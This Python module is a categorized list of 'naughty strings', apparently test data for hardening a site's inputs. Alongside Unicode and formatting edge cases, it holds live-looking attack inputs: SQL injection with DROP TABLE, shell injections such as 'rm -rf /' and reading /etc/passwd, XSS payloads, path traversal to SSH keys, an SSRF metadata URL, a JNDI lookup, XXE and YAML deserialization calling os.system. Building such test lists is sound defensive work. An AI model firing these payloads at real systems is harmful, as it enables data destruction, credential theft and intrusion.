"""Strings that have broken other people's programs, by what is naughty about them: written for this project, in every kind we know.

Nothing here is dangerous to read; all of it is meant to be typed into a box by somebody who wishes us ill, or by accident.
"""

from __future__ import annotations

from collections.abc import Mapping
from itertools import chain

#: By kind. Each kind is a test of its own, so that a failure says what is wrong.
NAUGHTY: Mapping[str, tuple[str, ...]] = {
    "reserved words": (
        *("undefined", "undef", "null", "NULL", "(null)", "nil", "None", "NaN", "Infinity", "-Infinity", "true", "FALSE", "yes", "NO"),
        *("hasOwnProperty", "__proto__", "constructor", "__class__", "__init__", "self", "lambda", "void 0", "if", "then", "\\"),
        *("\\\\",),
    ),
    "search operators": (
        *("AND", "OR", "NOT", "a AND (b OR", "NOT NOT NOT", "AND OR", "((((((", "))))", "title:[a TO z]", "slug:lincoln", "_id:1"),
        *("*:*", "*", "**", "?", "w*", "*w", "w?", "~", "w~", "w~99", "^", "w^99", "+", "-", "+-+-", "[", "]", "{", "}", "/w/", "&&"),
        *("||", "!", "NEAR/3", "damp NEAR sensors", "site:example.org damp", "filetype:pdf", "-damp", "<near>"),
        *("a & !b | (c <-> d):*",),
    ),
    "numbers": (
        *("0", "1", "-1", "1.00", "$1.00", "1/2", "1E2", "1E02", "1E+02", "-1.00", "0/0", "0.0/0", "-2147483648/-1", "1.0/0.0", "--1"),
        *("-.", "0..0", ".", "0.0.0", "0,00", "0xffffffff", "0xabad1dea", "999999999999999999999999999999", "1,000,000.00"),
        *("1 000 000.00", "123456789012345678901234567890123456789", "01000", "08", "2.2250738585072011e-308", "1e400", "1#INF"),
        *("1#QNAN", "٠١٢٣٤", "½ ⅓", "²³"),
    ),
    "punctuation": (
        *(",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "'", '"', "''", '""', "'\"'", "\"''''\"'\"", "\"'\"'\"''''\"", "“”", "‘’"),
        *("«»", "`", '"unclosed', 'closed" twice"', "“curly unclosed", "don't", "o'brien's", "e-mail", "…", "—", "a...b"),
        *("a.b.c.d.e.f", "_", "__", "a_b"),
    ),
    "spaces that are not spaces": (
        *("\t", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\xa0", "\u1680", "\u180e", "\u2000\u2001\u2002\u2003\u2004\u2005"),
        *("\u2006\u2007\u2008", "\u2009\u200a", "\u2028", "\u2029", "\u202f", "\u205f", "\u3000", "\ufeff", "\u200b", "\u200c"),
        *("\u200d", "\u2060", "\u00ad", "damp\u200bsensors", "damp\xa0sensors", "da\u00admp", "\ufeffdamp", "damp\u2028sensors"),
        *("\u115f\u3164\uffa0", "\u2800"),
    ),
    "control characters": (
        *("\x00", "damp\x00sensors", "\x01\x02\x03\x04\x05\x06\x07", "\x08", "\x0e\x0f\x10\x11\x12", "\x1b[31mred\x1b[0m", "\x7f"),
        *("\x80\x81", "\x9b31m", "\ufff9\ufffa\ufffb", "\ufffd", "\ufffe", "\uffff", "\U0001ffff", "\ufdd0", "\U000e0001\U000e0041"),
        *("\U0010ffff",),
    ),
    "halves of letters": (*("\ud800", "\udfff", "damp\ud800", "\udc00\ud800", "\ud83c", "damp \udcff sensors", "\ud800housing\udc00"),),
    "symbols": (
        *("Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "¡™£¢∞§¶•ªº–≠", "¸˛Ç◊ı˜Â¯˘¿", "⁰⁴⁵", "₀₁₂", "⅛⅜⅝⅞", "℞ ℡ ™ ﷺ ﷽", "𝕳𝖔𝖚𝖘𝖎𝖓𝖌"),
        *("ⓗⓞⓤⓢⓘⓝⓖ", "ｈｏｕｓｉｎｇ", "ₕₒᵤₛᵢₙ₉", "ﬁre ﬂat oﬃce", "Ǆ ǅ ǆ", "¯\\_(ツ)_/¯", "( ͡° ͜ʖ ͡°)", "｀ｨ(´∀｀∩", "__ﾛ(,_,*)"),
        *("(╯°□°）╯︵ ┻━┻",),
    ),
    "letters of other tongues": (
        *("田中さんにあげて下さい", "パーティーへ行かないか", "和製漢語", "사회과학원", "찦차를 타고 온 펲시맨", "部落格", "Ⱥ Ⱦ"),
        *("ЁЂЃЄЅІЇ", "표", "᚛ᚄᚓᚐᚋᚒᚄ ᚑᚄᚂᚑᚏᚅ᚜", "Ŵŵ Ŷŷ Ẁẁ Ẅẅ", "gŵyl tŷ Ŵyn", "tŷ\u0302", "Straße STRASSE ẞ", "ĳsland ŉ"),
        *("İstanbul ıssız Iğdır", "ΣΊΣΥΦΟΣ ς σ", "naïve café façade", "Ελληνικά ΑΒΓ", "नमस्ते आवास", "ภาษาไทย", "ქართული", "ᏣᎳᎩ"),
        *("አማርኛ", "Ðe Þorn ƿynn", "ꙮ", "𐍈𐌹𐌻", "𒐫𒈙⸻", "꧅", "Å Å Å", "ﬅ ſ"),
    ),
    "right to left": (
        *("ثم نفس سقطت وبالتحديد", "בְּרֵאשִׁית, בָּרָא אֱלֹהִים", "הָיְתָהtestالصفحات", "﷽", "\u202atest\u202a", "\u202btest\u202b"),
        *("\u2029test\u2029", "\u202edamp", "\u2066test\u2067", "\u200fdamp\u200e", "damp \u202esensors", "\u061cdamp"),
        *("مُنَاقَشَةُ سُبُلِ إِسْتِخْدَامِ", "لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗"),
    ),
    "marks upon marks": (
        *("Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "d\u0301a\u0301m\u0301p\u0301", "e\u0301", "\u0301"),
        *("\u0301damp", "o" + "\u0308" * 500, "a\u0360b", "q\u0307\u0323 q\u0323\u0307", "\u1100\u1161\u11a8", "각", "क्षि", "நி"),
        *("\u0e33\u0e33\u0e33", "\U000e0100" * 50, "\ufe0f" * 50),
    ),
    "emoji": (
        *("😍", "👩🏽", "👨‍🦰 👨🏿‍🦰", "👾 🙇 💁 🙅", "🐵 🙈 🙉 🙊", "❤️ 💔 💌", "✋🏿 💪🏿 👐🏿", "👨‍👩‍👦 👨‍👩‍👧‍👦"),
        *("🚾 🆒 🆓", "0️⃣ 1️⃣", "🇬🇧🏴󠁧󠁢󠁷󠁬󠁳󠁿", "🇺🇸🇷🇺🇸", "🏚️ damp", "👩‍💻" * 200, "🏿", "🇬", "☺ ☻", "⁉️", "🧑‍🧑‍🧒‍🧒"),
    ),
    "upside down and in disguise": (
        *("˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop ʇǝ", "00˙Ɩ$-", "Ｔｈｅ ｑｕｉｃｋ", "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤", "𝘛𝘩𝘦 𝘲𝘶𝘪𝘤𝘬", "𝒯𝒽ℯ", "🅷🅾🆄🆂🅴", "⒯⒣⒠"),
        *("hоusing (a Cyrillic o)", "раypal"),
    ),
    "SQL": (
        *("'; DROP TABLE casestudies; --", "1;DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "' OR '1'='1"),
        *("'; EXEC xp_cmdshell('dir')", "%", "' UNION SELECT NULL,NULL--", "admin'--", "1 AND SLEEP(10)", "'||pg_sleep(10)||'"),
        *("\\'; --", "`; DROP`", "$$; $$", "x' AND 1=(SELECT 1"),
    ),
    "shells": (
        *("$HOME", "$ENV{'HOME'}", "%d", "`ls -al /`", "$(touch /tmp/naughty)", "; cat /etc/passwd", "| rm -rf /", "&& shutdown"),
        *("--help", "--version", "-e", "/dev/null; touch /tmp/naughty; echo", "eval(\"puts 'hello'\")", 'System("ls -al /")'),
        *("Kernel.exec('ls')", "<(sleep 10)", "!!", "~root"),
    ),
    "templates": (
        *("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% debug %}", "{{ config }}", "{{ ''.__class__.__mro__ }}"),
        *("{{request.application}}", "{# #}", "{{", "}}", "{%", "[[7*7]]", "@(7*7)", "${{7*7}}", "{php}echo 1;{/php}", "*{7*7}"),
        *("~{7*7}", "{{constructor.constructor('alert(1)')()}}"),
    ),
    "scripts": (
        *("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<svg><script>alert(2)</script>"),
        *('"><script>alert(3)</script>', "'><script>alert(4)</script>", "</script><script>alert(5)</script>"),
        *("< / script >< script >alert(6)< / script >", "<scr<script>ipt>", " onfocus=alert(7) autofocus "),
        *('" onfocus=alert(8) autofocus ', "<img src=x onerror=alert(9)>", "<IMG SRC=javascript:alert(10)>", "javascript:alert(11)"),
        *("java\tscript:alert(12)", "JaVaScRiPt:alert(13)", "data:text/html,<script>alert(14)</script>", "vbscript:x"),
        *("<body onload=alert(15)>", "<iframe src=javascript:alert(16)>", "<a href='javascript:alert(17)'>x</a>"),
        *("<math><mi xlink:href=x>", "</title><h1>x</h1>", "</textarea><b>", "<!-- ", "-->", "<![CDATA[", "]]>"),
        *("<style>*{display:none}</style>", "<base href=//x>", "<plaintext>", "<mark>", "</mark><img src=x>"),
        *("\x3cscript\x3ealert(18)\x3c/script\x3e", "\\u003cscript\\u003e", "%3Cscript%3E", "&#60;b&#62;", "<\x00script>"),
        *("＜script＞alert(19)＜/script＞", "<svg/onload=alert`20`>", "<input onfocus=alert(21) autofocus>"),
        *("<details open ontoggle=alert(22)>",),
    ),
    "patterns that explode": (
        *("(a+)+$", "((a+)+)+b", "a" * 5_000 + "!", "^(([a-z])+.)+[A-Z]([a-z])+$", "(?R)", "(?P<x>", "\\1\\2", "[[:alpha:]]", "[z-a]"),
        *("(?<=a+)b", "x{9999999}", ".*" * 500, "(" * 2_000, "[" * 2_000, "|" * 2_000, "\\" * 2_001, "a." * 2_000, "_" * 5_000 + "."),
        *("." * 5_000 + "a",),
    ),
    "format strings": (
        *("%s%s%s%s%s", "%n%n%n", "%x %p", "%99999999s", "{0}", "{}", "{0.__class__}", "{:>99999999}", "%(asctime)s", "%*.*s"),
        *("$1 \\g<1>", "\\x41", "\\N{BULLET}"),
    ),
    "files": (
        *("../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd%00", "file:///etc/passwd"),
        *("%2e%2e%2f", "C:\\boot.ini", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "CLOCK$", "A:", "ZZ:", "\\\\server\\share"),
        *("~/.ssh/id_rsa", "php://filter", ".git/config"),
    ),
    "servers": (
        *("http://169.254.169.254/latest/meta-data/", "http://[::1]:22/", "gopher://x", "${jndi:ldap://example.org/a}"),
        *("() { :; }; echo x", "\r\nSet-Cookie: a=b", "%0d%0aLocation: x", "Host: example.org", "HTTP/1.1 200 OK\r\n\r\n"),
        *("<!--#exec cmd='ls' -->", "?q=1&q=2&page=-1#x", "=cmd|'/c calc'!A1", "@SUM(1)"),
    ),
    "documents that explode": (
        *('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',),
        *('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '{"a":' * 500),
        *("[" * 1_000 + "]" * 1_000, '{"__proto__": {"x": 1}}', "a: &a [*a, *a]", "!!python/object/apply:os.system [ls]"),
        *("--- !ruby/object", "---\ntitle: x\n---\n", "- " * 1_000, "> " * 1_000, "# " * 500, "[x](" * 500, "![](x)" * 300),
        *("**" * 1_000, "| " * 1_000, "<b>" * 1_000),
    ),
    "words that filters forbid": (
        *("Scunthorpe General Hospital", "Penistone Community Church", "Lightwater Country Park", "Clitheroe", "Essex and Sussex"),
        *("Dick Whittington", "Cockermouth flood repairs", "Arsenal", "Middlesex", "a shitake mushroom"),
        *("assessment of classic passports", "cum laude"),
    ),
    "long words": (
        *("x" * 61, "repairs" * 200, "a-" * 1_000, "a." * 1_000, "a_" * 1_000, "a'" * 1_000, "9" * 1_000, "é" * 1_000, "ﷺ" * 500),
        *("ß" * 1_000, "İ" * 1_000, "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch"),
        *("Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",),
    ),
    "many words": (
        *("damp " * 1_000, "the " * 1_000, "the of and", "to be or not to be", " ".join("abcdefghijklmnopqrstuvwxyz")),
        *(" ".join(map(str, range(1_000))), '"damp sensors" ' * 500, '"damp ' * 500, "damp, damp; damp: damp. " * 200),
        *("DAMP Damp dAMP daMP " * 200,),
    ),
    "what people do": (
        *("", " ", "?????", "!!!", "asdf", "asdfghjkl;", "test", "Test Test", "hello", "https://example.org/some/page?x=1"),
        *("someone@example.org", "01632 960000", "£1,000,000", "50% off", "C++", "C#", ".NET", "O365", "A&E", "R&D", "SEND/EHCP"),
        *("24/7", "#hashtag @mention", "…and so on", "IF I AM SHOUTING", "my council tax bill is wrong!!!", "AI?"),
        *("how 2 fix damp pls", "(see attached)", "1) damp 2) mould", "damp;sensors", "damp/sensors", "damp+sensors"),
    ),
}

NAUGHTY_STRINGS: tuple[str, ...] = tuple(chain.from_iterable(NAUGHTY.values()))
